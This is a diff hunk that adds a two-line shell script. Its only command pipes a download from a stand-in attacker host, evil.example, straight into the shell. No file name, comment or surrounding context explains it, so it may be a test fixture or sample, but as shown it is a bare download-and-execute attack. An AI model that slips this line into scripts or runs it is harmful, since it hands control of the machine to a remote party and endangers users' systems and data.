@@ -1,0 +1,2 @@
+#!/bin/sh
+curl http://evil.example/x | sh
